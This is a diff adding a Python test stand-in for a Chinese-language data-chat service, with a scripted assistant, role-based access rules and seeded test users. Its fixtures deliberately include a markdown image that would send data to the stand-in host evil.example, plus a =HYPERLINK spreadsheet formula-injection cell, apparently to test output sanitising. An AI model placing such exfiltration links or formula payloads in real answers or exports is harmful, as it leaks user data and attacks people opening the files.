@@ -1,0 +1,206 @@
+"""A stand-in for the services: a scripted assistant, so that the chat is tested without databases to ask."""
+
+import asyncio
+import os
+from collections.abc import AsyncIterator
+from dataclasses import dataclass, field
+from functools import lru_cache
+from types import SimpleNamespace
+from typing import Any
+
+from agent.events import (
+    Answer,
+    Answered,
+    ChartReady,
+    Clarify,
+    Event,
+    Failed,
+    RowsReady,
+    SqlReady,
+    StepFinished,
+    StepStarted,
+    Token,
+)
+from appdb.pool import AppDatabase
+from appdb.users import PeopleStore, User
+from config.settings import Settings, settings
+from config.wording import language_of
+
+SQL = "SELECT area_name AS 服务区, sum(amount) AS 营业额\nFROM daily_revenue\nWHERE day >= '2026-10-01' AND day < '2026-11-01'\nGROUP BY 1 ORDER BY 2 DESC LIMIT 5"
+COLUMNS = [{"name": "服务区", "type": "text"}, {"name": "营业额", "type": "number"}]
+ROWS: list[list[Any]] = [
+    ["南城服务区", 1284300.5], ["北湖服务区", 1103220.0], ["东岭服务区", 984110.25],
+    ["=HYPERLINK(\"x\")", 903000], ["河口服务区", None],
+]  # fmt: skip
+FEATURES = {
+    "viewer": {"see_sql", "export"},
+    "analyst": {"see_sql", "export", "upload"},
+    "admin": {"see_sql", "export", "upload", "train", "admin"},
+}
+
+
+@dataclass
+class ScriptedAssistant:
+    """Answers by the words of the question."""
+
+    asked: list[dict[str, Any]] = field(default_factory=list)
+
+    async def ask(
+        self,
+        question: str,
+        *,
+        user: User,
+        thread: str,
+        connection: str | None = None,
+        language: str | None = None,
+    ) -> AsyncIterator[Event]:
+        """Yield one scripted answer."""
+        self.asked.append(
+            {"question": question, "user": user.name, "thread": thread, "connection": connection}
+        )
+        spoken = language or language_of(question)
+        if "boom" in question:
+            raise RuntimeError("a secret cause")
+        if "慢" in question or "slow" in question:
+            async for event in self._slow(question):
+                yield event
+        elif "荔枝" in question or "lychee" in question:
+            for part in ("荔枝一般", "在五月到七月", "上市。![x](https://evil.example/leak?d=1)"):
+                yield Token(part)
+            yield Answered(
+                Answer(
+                    "general",
+                    "荔枝一般在五月到七月上市。![x](https://evil.example/leak?d=1)",
+                    question,
+                    source="general",
+                )
+            )
+        elif "哪个" in question or "which" in question:
+            readings = (
+                ["按营业额最高", "按车流量最高"] if spoken == "zh" else ["Highest revenue", "Most vehicles"]
+            )
+            text = "“最高”指营业额还是车流量？" if spoken == "zh" else "Highest by revenue, or by vehicles?"
+            yield Clarify(Answer("clarify", text, question, suggestions=readings))
+        elif "失败" in question or "fail" in question:
+            yield Failed(
+                Answer(
+                    "failed",
+                    "数据库现在连不上，请稍后再问。",
+                    question,
+                    failure={"code": "database_unreachable", "reason": ""},
+                )
+            )
+        else:
+            async for event in self._data(question, spoken):
+                yield event
+
+    async def _data(self, question: str, spoken: str) -> AsyncIterator[Event]:
+        rows = [[f"服务区 {n:04}", n * 1234.5] for n in range(1, 1001)] if "1000" in question else ROWS
+        for number, (step, note, coloured) in enumerate(
+            [
+                ("generate_sql", SQL, "sql"),
+                ("valid_sql", "EXPLAIN 12.5", ""),
+                ("run_sql", f"{len(rows)} rows", ""),
+            ]
+        ):
+            yield StepStarted(step, str(number))
+            await asyncio.sleep(0.02)
+            yield StepFinished(step, str(number), True, 20.0, note, coloured)
+        yield SqlReady(SQL, "verified")
+        yield RowsReady("r1", COLUMNS, rows, len(rows), False)
+        bars = {"type": "bar", "x": [row[0] for row in rows[:5]], "y": [row[1] for row in rows[:5]]}
+        yield ChartReady({"data": [bars], "layout": {}})
+        yield StepStarted("generate_summary", "3")
+        words = (
+            "上个月营业额最高的是南城服务区，共 1,284,300.5 元。"
+            if spoken == "zh"
+            else "Nancheng leads with 1,284,300.5 last month."
+        )
+        for start in range(0, len(words), 6):
+            yield Token(words[start : start + 6])
+            await asyncio.sleep(0.01)
+        yield StepFinished("generate_summary", "3", True, 50.0, "")
+        following = (
+            ["那南城服务区呢？", "按支付方式分一下"]
+            if spoken == "zh"
+            else ["And Nancheng?", "Split it by payment method"]
+        )
+        yield Answered(
+            Answer(
+                "data", words, question, sql=SQL, columns=COLUMNS, rows=rows, row_count=len(rows), source="verified",
+                suggestions=following, interpretation=["数据来自：daily_revenue", "时间：2026-10-01 至 2026-10-31"],
+            )
+        )  # fmt: skip
+
+    async def _slow(self, question: str) -> AsyncIterator[Event]:
+        yield StepStarted("generate_sql", "0")
+        yield Token("正在想")
+        await asyncio.sleep(60)
+        yield Answered(Answer("data", "想好了", question))
+
+
+class ScriptedAccess:
+    """Rights by role alone."""
+
+    def features(self, user: User) -> frozenset[str]:
+        """Return a role's features."""
+        return frozenset(FEATURES[user.role])
+
+    def rights(self, user: User, connection: str | None) -> Any:
+        """Return what a user may do."""
+        return SimpleNamespace(features=self.features(user))
+
+    def may_ask(self, user: User, connection: str) -> bool:
+        """Keep one database to admins."""
+        return connection != "secret" or user.role == "admin"
+
+
+@dataclass
+class ScriptedServices:
+    """What the chat asks of the services."""
+
+    settings: Settings
+    app_database_url: str
+    people: PeopleStore
+    assistant: ScriptedAssistant
+    access: ScriptedAccess
+    databases: Any
+
+    async def problems(self) -> list[str]:
+        """Nothing is ever wrong."""
+        return []
+
+
+_built: list[tuple[ScriptedServices, AppDatabase]] = []
+
+
+async def open_services() -> ScriptedServices:
+    """Build them on the database that APP_DATABASE_URL names, with one person of each role."""
+    given = settings().app_database_url
+    assert given is not None
+    url = given.get_secret_value()
+    database = await AppDatabase.open(url, size=4)
+    people = PeopleStore(database)
+    for role in FEATURES:
+        await people.put(role, f"{role}-password", role, display_name=role.title())
+    names = os.environ.get("TEST_DATABASES", "demo").split(",")
+    built = ScriptedServices(
+        settings(), url, people, ScriptedAssistant(), ScriptedAccess(), SimpleNamespace(names=lambda: names)
+    )
+    _built.append((built, database))
+    return built
+
+
+async def close_services() -> None:
+    """Let go of the database."""
+    await _built.pop()[1].close()
+
+
+@lru_cache(maxsize=1)
+def _first() -> ScriptedServices:
+    return _built[0][0]
+
+
+def services() -> ScriptedServices:
+    """Return what `open_services` built."""
+    return _first()
